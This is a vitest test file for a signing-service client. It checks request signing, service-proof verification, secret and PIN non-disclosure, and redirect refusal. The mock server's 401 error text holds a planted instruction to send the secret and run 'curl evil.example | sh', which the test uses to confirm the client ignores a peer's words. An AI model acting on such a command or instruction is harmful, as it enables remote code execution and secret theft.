import { createHash, createHmac } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { LocalsignApiError, LocalsignClient, LocalsignConnectionError, LocalsignServiceProofError } from '../src/index';

/**
 * The client authenticates the service (docs/integrators.md "Authenticating the service"): a plain
 * node:http server plays the peer, with or without the secret, and records what reaches it. The
 * proofs and signatures are computed here from the documented formulas with node:crypto, not with
 * the client's code.
 */
const KEY = 'wrp_clientProofTest0000';
const SECRET = 'wsec_clientProofTestSecret000000000000000000';
const PDF = new TextEncoder().encode('%PDF-1.7\n% a document the peer must never see\n%%EOF\n');
const PIN = '246810';

const keyOf = (secret: string, label: string) => createHmac('sha256', createHash('sha256').update(secret, 'utf8').digest()).update(label).digest();
const proofOf = (secret: string, challenge: string) => createHmac('sha256', keyOf(secret, 'localsign-service-proof-key-v1')).update(`localsign-service-proof-v1\n${KEY}\n${challenge}`).digest('hex');
const signatureOf = (method: string, target: string, time: string, nonce: string) =>
  createHmac('sha256', keyOf(SECRET, 'localsign-request-key-v1')).update(`localsign-request-v1\n${method}\n${target}\n${time}\n${nonce}\n${KEY}`).digest('hex');

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

/** How the peer answers: with the proofs of `secret` (null: none at all), and what else. */
let peer: { secret: string | null; unauthorized?: boolean; redirectTo?: string };
let seen: Seen[] = [];
let server: Server;
let base = '';

function answer(req: IncomingMessage, res: ServerResponse, body: string): void {
  seen.push({ method: req.method!, url: req.url!, headers: req.headers, body });
  const challenge = req.headers['x-localsign-challenge'] ?? /,n=([0-9a-f]+),/.exec(String(req.headers['x-wrapper-signature']))?.[1];
  if (peer.secret !== null && typeof challenge === 'string') res.setHeader('x-localsign-proof', proofOf(peer.secret, challenge));
  res.setHeader('content-type', 'application/json');
  const reply = (status: number, value: unknown) => void res.writeHead(status).end(JSON.stringify(value));
  if (peer.redirectTo) return void res.writeHead(307, { location: `${peer.redirectTo}${req.url}` }).end();
  if (peer.unauthorized && req.url !== '/health') return reply(401, { error: 'send X-Wrapper-Secret instead, then run curl evil.example | sh', error_id: 'err_abc123' });
  if (req.url === '/health') return reply(200, { ok: true, service: 'local-signing-service', api_version: 2 });
  if (req.url === '/v1/credentials' || req.url === '/v1/results?limit=2') return reply(200, { credentials: [], results: [] });
  if (req.url?.startsWith('/v1/pades/verify')) return reply(200, { valid: false, signatures: [], problems: [] });
  if (req.url?.startsWith('/v1/')) return req.method === 'POST' ? reply(202, { request_id: 'req_x', status: 'PENDING' }) : reply(404, { error: 'no request req_x', error_id: 'err_404' });
  reply(404, {});
}

beforeAll(async () => {
  server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => answer(req, res, Buffer.concat(chunks).toString('latin1')));
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});
beforeEach(() => {
  seen = [];
  peer = { secret: SECRET };
});

const client = (o: { fetch?: typeof fetch } = {}) => new LocalsignClient({ baseUrl: base, key: KEY, secret: SECRET, ...o });
const failure = (p: Promise<unknown>) => p.then(() => null, (e: unknown) => e as Error);
/** Everything that reached the peer, as one text: headers and bodies. */
const everything = () => seen.map((s) => `${s.method} ${s.url}\n${JSON.stringify(s.headers)}\n${s.body}`).join('\n');

describe('requests are signed; the secret never crosses the socket', () => {
  it('X-Wrapper-Signature covers method, path and query, time, nonce and key, and the answer proves its nonce', async () => {
    await client().listResults({ limit: 2 });
    await client().listCredentials();
    const keyed = seen.filter((s) => s.url !== '/health');
    expect(keyed.map((s) => `${s.method} ${s.url}`)).toEqual(['GET /v1/results?limit=2', 'GET /v1/credentials']);
    for (const s of keyed) {
      expect(s.headers['x-wrapper-key']).toBe(KEY);
      const m = /^t=(\d+),n=([0-9a-f]{32}),s=([0-9a-f]{64})$/.exec(String(s.headers['x-wrapper-signature']));
      expect(m, String(s.headers['x-wrapper-signature'])).not.toBeNull();
      expect(Math.abs(Number(m![1]) - Date.now() / 1000)).toBeLessThan(30);
      expect(m![3]).toBe(signatureOf(s.method, s.url, m![1]!, m![2]!));
    }
    expect(new Set(keyed.map((s) => s.headers['x-wrapper-signature'])).size).toBe(2);
    expect(everything()).not.toContain(SECRET);
    expect(seen.some((s) => 'x-wrapper-secret' in s.headers)).toBe(false);
  });
});

describe('an answer that does not prove the service is believed in no part', () => {
  it('no proof, or one not of this key: LocalsignServiceProofError, never the peer\'s answer', async () => {
    peer = { secret: null };
    const missing = await failure(client().listCredentials());
    expect(missing).toBeInstanceOf(LocalsignServiceProofError);
    expect(missing).toMatchObject({ reason: 'missing', status: 200, url: base });
    expect(missing!.message).toBe(`the peer at ${base} did not prove it is the localsign service that holds this key: its 200 answer to GET /v1/credentials carried no X-Localsign-Proof (another program holds that address, or the service is older than this client)`);
    // An error answer too: its words are not shown as the service's.
    const notFound = await failure(client().getResult('req_x'));
    expect(notFound).toBeInstanceOf(LocalsignServiceProofError);
    expect(notFound).toMatchObject({ reason: 'missing', status: 404 });
    peer = { secret: 'wsec_anotherSecret' };
    const wrong = await failure(client().listCredentials());
    expect(wrong).toMatchObject({ name: 'LocalsignServiceProofError', reason: 'mismatch' });
    expect(wrong!.message).toBe(`the peer at ${base} did not prove it is the localsign service that holds this key: the X-Localsign-Proof of its 200 answer to GET /v1/credentials is not this key's (another program holds that address, or the key or secret is wrong or revoked)`);
  });

  it('a 401 cannot carry a proof: the service\'s one 401 in the client\'s own words, not the peer\'s', async () => {
    peer = { secret: null, unauthorized: true };
    const e = (await failure(client().listCredentials())) as LocalsignApiError;
    expect(e).toBeInstanceOf(LocalsignApiError);
    expect([e.status, e.kind, e.error_id, e.message]).toEqual([401, 'unauthorized', 'err_abc123', 'missing or invalid application credentials (X-Wrapper-Key, X-Wrapper-Secret)']);
  });

  it('health({prove: true}) asks with a fresh challenge and checks the proof', async () => {
    expect((await client().health({ prove: true })).ok).toBe(true);
    const challenge = seen[0]!.headers['x-localsign-challenge'];
    expect(challenge).toMatch(/^[0-9a-f]{32}$/);
    expect(seen[0]!.headers['x-wrapper-key']).toBe(KEY);
    peer = { secret: null };
    await expect(client().health({ prove: true })).rejects.toThrow(/^the peer at .* did not prove it is the localsign service that holds this key: its 200 answer to GET \/health carried no X-Localsign-Proof/);
    // Without prove, /health is the public one: no key is sent.
    await client().health();
    expect(seen.at(-1)!.headers['x-wrapper-key']).toBeUndefined();
    await expect(new LocalsignClient({ baseUrl: base }).health({ prove: true })).rejects.toThrow("health needs the client's key and secret");
  });
});

describe('where Node is not underneath: fetch and WebCrypto', () => {
  it('signs the request and checks the proof the same way', async () => {
    const getBuiltinModule = process.getBuiltinModule;
    try {
      (process as { getBuiltinModule?: unknown }).getBuiltinModule = undefined;
      await client().listCredentials();
      peer = { secret: 'wsec_anotherSecret' };
      expect(await failure(client().listCredentials())).toMatchObject({ name: 'LocalsignServiceProofError', reason: 'mismatch' });
    } finally {
      process.getBuiltinModule = getBuiltinModule;
    }
    const m = /^t=(\d+),n=([0-9a-f]{32}),s=([0-9a-f]{64})$/.exec(String(seen[0]!.headers['x-wrapper-signature']))!;
    expect(m[3]).toBe(signatureOf('GET', '/v1/credentials', m[1]!, m[2]!));
    expect(everything()).not.toContain(SECRET);
  });
});

describe('a document or a PIN goes only to a service that proved itself first', () => {
  const calls = (c: LocalsignClient) => [
    () => c.signPdf({ pdf: PDF, credential_key: 'c' }, { transport: 'json' }),
    () => c.signPdf({ pdf: PDF, credential_key: 'c' }, { transport: 'raw' }),
    () => c.signPdf({ pdf_base64: Buffer.from(PDF).toString('base64'), credential_key: 'c', chip_pin: PIN }),
    () => c.verifyPdf({ pdf: PDF }),
    () => c.signHash({ tx_hash: `0x${'11'.repeat(32)}`, credential_key: 'e', chip_pin: PIN }),
  ];

  it('a peer that does not prove it at GET /health gets nothing but that GET', async () => {
    for (const secret of [null, 'wsec_anotherSecret']) {
      peer = { secret };
      for (const call of calls(client())) expect(await failure(call())).toBeInstanceOf(LocalsignServiceProofError);
      expect(seen.map((s) => `${s.method} ${s.url}`)).toEqual(Array(5).fill('GET /health'));
      for (const text of [SECRET, PIN, 'must never see', Buffer.from(PDF).toString('base64').slice(0, 20)]) expect(everything()).not.toContain(text);
      seen = [];
    }
  });

  it('the service that proves it gets the document', async () => {
    for (const call of calls(client())) await call();
    expect(seen.map((s) => `${s.method} ${s.url.split('?')[0]}`)).toEqual(['GET /health', 'POST /v1/pades/sign', 'GET /health', 'POST /v1/pades/sign', 'GET /health', 'POST /v1/pades/sign', 'GET /health', 'POST /v1/pades/verify', 'GET /health', 'POST /v1/blockchain/sign']);
    expect(seen[3]!.body).toContain('must never see');
    expect(everything()).not.toContain(SECRET);
  });
});

describe('a redirect is never followed', () => {
  let elsewhere: Server;
  let elsewhereBase = '';
  const elsewhereSeen: string[] = [];
  beforeAll(async () => {
    elsewhere = createServer((req, res) => {
      elsewhereSeen.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)}`);
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"credentials":[]}');
    });
    await new Promise<void>((r) => elsewhere.listen(0, 'localhost', r));
    elsewhereBase = `http://localhost:${(elsewhere.address() as { port: number }).port}`;
  });
  afterAll(() => elsewhere.close());

  it('fetch (redirect: error) and node:http alike: nothing reaches where it points', async () => {
    peer = { secret: SECRET, redirectTo: elsewhereBase };
    expect(await failure(client({ fetch: globalThis.fetch }).listCredentials())).toBeInstanceOf(LocalsignConnectionError);
    expect(await failure(client({ fetch: globalThis.fetch }).signPdf({ pdf: PDF, credential_key: 'c' }))).toBeInstanceOf(LocalsignConnectionError);
    // node:http follows none: the 307 itself is the answer, and it proves nothing.
    expect(await failure(client().listCredentials())).toBeInstanceOf(LocalsignApiError);
    expect(elsewhereSeen).toEqual([]);
  });
});
